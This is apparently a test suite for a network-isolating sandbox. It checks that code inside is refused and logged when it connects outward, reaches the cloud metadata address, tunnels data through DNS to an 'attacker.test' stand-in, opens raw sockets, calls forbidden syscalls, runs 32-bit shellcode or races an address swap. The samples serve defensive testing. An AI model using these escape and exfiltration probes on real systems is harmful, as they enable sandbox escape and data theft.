# SPDX-License-Identifier: Apache-2.0
"""What code in a cell tries is refused, recorded, and counted by the second witness."""

from cells import BIN, CellTestCase, each_identity, python

OUTSIDE = "203.0.113.80"  # RFC 5737: nobody


class RecorderTest(CellTestCase):
    def attempts_of(self, identity, code, **spec):
        running = self.run_python(identity, code, **spec)
        self.assertEqual(running.exit["interfaces"], ["lo"])
        return running

    def only(self, running, **wanted):
        """The one recorded attempt with these members."""
        found = [a for a in running.attempts if all(a[k] == v for k, v in wanted.items())]
        self.assertEqual(len(found), 1, running.attempts)
        return found[0]

    @each_identity
    def test_connections_are_refused_and_recorded(self, identity):
        code = f"""
import socket, errno
for family, address in ((socket.AF_INET, ("{OUTSIDE}", 443)), (socket.AF_INET6, ("2001:db8::80", 80)),
                        (socket.AF_INET6, ("::ffff:{OUTSIDE}", 81)), (socket.AF_INET, ("169.254.169.254", 80))):
    s = socket.socket(family)
    assert s.connect_ex(address) == errno.ENETUNREACH, address
"""
        running = self.attempts_of(identity, code, name="c-7", notebook="In [7]")
        attempt = self.only(running, operation="connect", address=OUTSIDE, port=443, family="inet")
        self.assertEqual((attempt["cell"], attempt["notebook"]), ("c-7", "In [7]"))
        self.assertEqual(attempt["verdict"], "refused")
        self.assertEqual(attempt["pid"], running.started["payload"])
        self.assertIn("python3", attempt["program"])
        self.only(running, address="2001:db8::80", family="inet6", port=80)
        self.only(running, address=f"::ffff:{OUTSIDE}", port=81)
        self.only(running, address="169.254.169.254")
        self.assertEqual(running.exit["unrouted"], 0)

    @each_identity
    def test_datagrams_are_refused_and_recorded(self, identity):
        code = f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for send in (lambda: s.sendto(b"x", ("{OUTSIDE}", 53)), lambda: s.sendmsg([b"x"], [], 0, ("{OUTSIDE}", 54))):
    try:
        send()
    except OSError:
        continue
    raise SystemExit("sent")
"""
        running = self.attempts_of(identity, code)
        self.only(running, operation="sendto", address=OUTSIDE, port=53)
        self.only(running, operation="sendmsg", address=OUTSIDE, port=54)

    @each_identity
    def test_binding_outside_is_refused_and_inside_works(self, identity):
        code = f"""
import socket, threading
s = socket.socket()
try:
    s.bind(("{OUTSIDE}", 80))
except OSError:
    pass
else:
    raise SystemExit("bound")
server = socket.create_server(("127.0.0.1", 0))
threading.Thread(target=lambda: server.accept()[0].sendall(b"hello")).start()
assert socket.create_connection(server.getsockname()).recv(9) == b"hello"
a, b = socket.socketpair()
a.send(b"x"); assert b.recv(1) == b"x"
"""
        running = self.attempts_of(identity, code)
        self.assertEqual([a["operation"] for a in running.attempts], ["bind"])

    @each_identity
    def test_refused_families_are_recorded_by_name(self, identity):
        code = """
import socket
for family, kind, protocol in ((40, 1, 0), (17, 3, 0), (38, 5, 0), (16, 3, 12), (2, 3, 1), (31, 3, 0), (44, 3, 0)):
    try:
        socket.socket(family, kind, protocol)
    except OSError:
        continue
    raise SystemExit(f"made {family}")
socket.socket(16, 3, 0)
"""
        running = self.attempts_of(identity, code)
        families = {a["family"] for a in running.attempts}
        self.assertEqual(families, {"vsock", "packet", "alg", "netlink", "inet", "bluetooth", "xdp"})
        self.assertEqual({a["operation"] for a in running.attempts}, {"socket"})

    @each_identity
    def test_names_lead_to_the_sinkhole_and_are_told_with_the_connection(self, identity):
        code = r"""
import socket
for name in ("c2VjcmV0.tunnel.attacker.test", "UPPER.Example.COM."):
    assert socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0].startswith("198.18.")
    try:
        socket.create_connection((name, 443))
    except OSError:
        continue
    raise SystemExit("connected")
q = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + b"\x05a\0b\n\xff\x04test\0" + b"\0\1\0\1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
s.sendto(q, ("127.0.0.1", 53)); assert s.recv(512)[:2] == q[:2]
t = socket.create_connection(("127.0.0.1", 53)); t.settimeout(10)
t.sendall(len(q).to_bytes(2, "big") + q); assert t.recv(512)[2:4] == q[:2]
"""
        running = self.attempts_of(identity, code)
        asked = [a for a in running.attempts if a["operation"] == "dns"]
        self.assertTrue(all(a["verdict"] == "sinkholed" and a["port"] == 53 for a in asked))
        self.assertTrue(all(a["pid"] == running.started["payload"] for a in asked), asked)
        self.assertLessEqual({"c2VjcmV0.tunnel.attacker.test", r"a\000b\010\255.test"}, {a["host"] for a in asked})
        tried = [a for a in running.attempts if a["operation"] == "connect"]
        self.assertEqual({a["host"] for a in tried}, {"c2VjcmV0.tunnel.attacker.test", "UPPER.Example.COM"})
        self.assertTrue(all(a["address"].startswith("198.18.") for a in tried))

    @each_identity
    def test_a_program_without_libc_is_refused_and_recorded(self, identity):
        mounts = [{"source": str(self.folder / "static-connector"), "target": "/opt/static-connector"}]
        (self.folder / "static-connector").write_bytes((BIN / "static-connector").read_bytes())
        (self.folder / "static-connector").chmod(0o755)
        running = self.run_cell(identity, ["/opt/static-connector"], mounts=mounts)
        self.assertEqual(running.exit["code"], 101)  # ENETUNREACH
        attempt = self.only(running, operation="connect", address=OUTSIDE, port=80)
        self.assertTrue(attempt["program"].startswith("/opt/static-connector"))

    @each_identity
    def test_forbidden_calls_are_refused_and_recorded(self, identity):
        code = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
for number in (101, 425, 165, 272, 308, 321, 250, 298, 323, 304, 447, 310, 438, 155, 161):
    assert libc.syscall(number, 0, 0, 0, 0, 0) == -1 and ctypes.get_errno() == errno.EPERM, number
for number in (435, 457, 999, 317):
    assert libc.syscall(number, 0, 0, 0, 0, 0) == -1 and ctypes.get_errno() == errno.ENOSYS, number
assert libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) == -1 and ctypes.get_errno() == errno.EPERM
libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
assert libc.ioctl(0, 0x100005412, b"x") == -1 and ctypes.get_errno() == errno.EPERM
"""
        expected = {
            "ptrace", "io_uring_setup", "mount", "unshare", "setns", "bpf", "keyctl", "perf_event_open",
            "userfaultfd", "open_by_handle_at", "memfd_secret", "process_vm_readv", "pidfd_getfd", "pivot_root",
            "chroot", "clone", "ioctl TIOCSTI",
        }  # fmt: skip
        running = self.attempts_of(identity, code)
        self.assertEqual({a["operation"] for a in running.attempts}, expected)

    @each_identity
    def test_32_bit_calls_end_the_process(self, identity):
        # int 0x80 with eax = 20 (getpid of the 32-bit table), from memory that may be executed.
        code = r"""
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7); page.write(b"\xb8\x14\0\0\0\xcd\x80\xc3")
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
"""
        running = self.run_cell(identity, python(code))
        self.assertEqual((running.exit["reason"], running.exit["signal"]), ("signalled", 31), running.stderr)

    @each_identity
    def test_children_are_recorded_under_their_own_number(self, identity):
        code = f"""
import os, socket
done, tell = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        socket.socket().connect_ex(("{OUTSIDE}", 1)); os.write(tell, b"x")
    os._exit(0)
os.read(done, 1)
socket.socket().connect_ex(("{OUTSIDE}", 2))
"""
        running = self.attempts_of(identity, code)
        child, parent = self.only(running, port=1), self.only(running, port=2)
        self.assertEqual(parent["pid"], running.started["payload"])
        self.assertNotEqual(child["pid"], parent["pid"])

    @each_identity
    def test_a_flood_is_counted_and_folded(self, identity):
        code = f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(3000):
    try: s.sendto(b"x", ("{OUTSIDE}", 9))
    except OSError: pass
for i in range(2000):
    try: s.sendto(b"x", ("{OUTSIDE}", 1000 + i))
    except OSError: pass
"""
        running = self.attempts_of(identity, code)
        self.assertEqual(sum(a["count"] for a in running.attempts), 5000)
        windows = int(running.exit["seconds"]) + 2
        self.assertLess(len(running.attempts), 102 * windows)

    @each_identity
    def test_a_changed_address_meets_no_route(self, identity):
        # A second thread swaps the address between the recorder's look and the kernel's: a line may be lost, a
        # packet not: then the namespace counts it.
        code = f"""
import ctypes, socket, threading
libc = ctypes.CDLL(None)
def address(host): return b"\\2\\0\\0\\x35" + socket.inet_aton(host) + bytes(8)
inside, outside = address("127.0.0.1"), address("{OUTSIDE}")
shared = ctypes.create_string_buffer(inside, 16)
stop = False
def swap():
    while not stop:
        ctypes.memmove(shared, outside, 16); ctypes.memmove(shared, inside, 16)
threading.Thread(target=swap).start()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
passed = sum(libc.sendto(s.fileno(), b"x", 1, 0, shared, 16) == 1 for _ in range(4000))
stop = True
print(passed)
"""
        running = self.attempts_of(identity, code)
        refused = sum(a["count"] for a in running.attempts)
        self.assertEqual(int(running.stdout) + refused + running.exit["unrouted"], 4000)
        self.assertGreater(refused, 0)
